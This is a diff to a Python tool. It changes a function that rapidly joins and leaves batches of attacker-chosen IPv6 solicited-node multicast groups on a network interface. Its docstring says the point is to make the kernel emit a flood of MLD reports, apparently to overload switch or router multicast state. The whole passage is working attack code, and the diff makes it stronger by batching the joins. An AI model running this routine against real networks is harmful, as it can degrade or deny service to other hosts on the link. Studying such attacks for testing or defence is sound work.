@@ -165,19 +165,22 @@ def solicited_node(value: int) -> str:
     return str(ipaddress.IPv6Address(int(ipaddress.IPv6Address("ff02::1:ff00:0")) | (value & 0xFFFFFF)))
 
 
-def churn_solicited_node(iface: str, first: int, seconds: float, limit: int) -> dict[str, Any]:
-    """Join and leave solicited-node groups first, first+1, ... for `seconds` (at most `limit` groups):
-    each join and leave makes the kernel send an MLD report naming a group the attacker chose."""
+def churn_solicited_node(iface: str, first: int, seconds: float, batch: int, limit: int) -> dict[str, Any]:
+    """Join `batch` solicited-node groups first, first+1, ... at a time, then leave them, for `seconds`
+    (at most `limit` groups): each join and leave makes the kernel report groups the attacker chose."""
     ifindex = socket.if_nametoindex(iface)
     deadline = time.monotonic() + seconds
     done = 0
     with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
-        while done < limit and time.monotonic() < deadline:
-            mreq = socket.inet_pton(socket.AF_INET6, solicited_node(first + done)) + struct.pack("@I", ifindex)
-            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, mreq)
-            time.sleep(0.002)
-            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_LEAVE_GROUP, mreq)
-            done += 1
+        while done + batch <= limit and time.monotonic() < deadline:
+            mreqs = [socket.inet_pton(socket.AF_INET6, solicited_node(first + done + i)) + struct.pack("@I", ifindex)
+                     for i in range(batch)]
+            for mreq in mreqs:
+                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, mreq)
+            time.sleep(0.05)
+            for mreq in mreqs:
+                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_LEAVE_GROUP, mreq)
+            done += batch
     return {"groups": done}
 
 
